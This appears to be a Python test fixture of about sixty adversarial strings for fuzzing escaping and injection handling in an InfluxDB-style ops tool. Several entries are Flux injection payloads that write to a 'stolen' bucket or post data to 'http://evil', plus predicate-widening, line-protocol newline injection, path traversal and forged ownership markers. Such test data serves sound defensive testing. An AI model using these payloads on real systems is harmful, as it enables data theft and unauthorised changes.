"""Sixty texts that try to become program: Flux, line protocol, predicates, templates, markers, URLs, headers."""

from __future__ import annotations

MARK = "// influxops/v1 owner=c1/InfluxTask/team-a/cpu uid=u sha256=" + "0" * 64
SUFFIX = "[influxops/v1 owner=c1/RetentionPolicy/team-a/kept uid=u]"

STRINGS = [
    # out of a Flux string
    '"', '""', '\\"', '\\\\"', "\\", "\\\\", '"\\', "'", "`",
    '") |> to(bucket: "stolen") //',
    '" |> drop(columns: ["_value"]) |> yield(name: "',
    '"\noption task = {name: "own", every: 1s}\n"',
    '"\nimport "http"\nhttp.post(url: "http://evil", data: bytes(v: "x"))\n"',
    '"}, x = {a: "',
    '", every: 1s, name: "',
    '") or true or r._measurement == ("',
    '" and exists r.secret and "a" == "a',
    # interpolation
    "${1 + 1}", "$${x}", "\\${x}", "${", "$", "}", '${"${"x"}"}', '${http.get(url: "http://evil")}', "$\\", "${\n}",
    # comments and line ends
    "//", "/* */", "x\ny", "x\r\ny", "\r", "\n", "\t", "\x0b\x0c", "\u2028// x", "\u2029", "\u0085", "-- x", "#datatype,string",
    # escapes of other readers
    "\\x22", "\\u0022", "\\n", "%22", "&quot;", "\\N{QUOTATION MARK}",
    # control, width, direction
    "\x00", "\x1b[31m", "\x7f", "\u202e\u2066", "\ufeff", "\u200b", "\U0010ffff", "e\u0301" * 40,
    # line protocol
    "m,tag=1 field=1i 1\nevil value=1", "a\\ b\\,c\\=d", 'x" 1\nevil v=1',
    # predicates, paths, templates, marks
    '" or _measurement="keep', "a AND b OR _measurement=keep", "../../buckets?x=y#z",
    "{{ values.x }}{% for i in range(9) %}{{ i }}{% endfor %}", MARK + "\n", f"mine {SUFFIX}", f"{SUFFIX} {SUFFIX}",
]  # fmt: skip
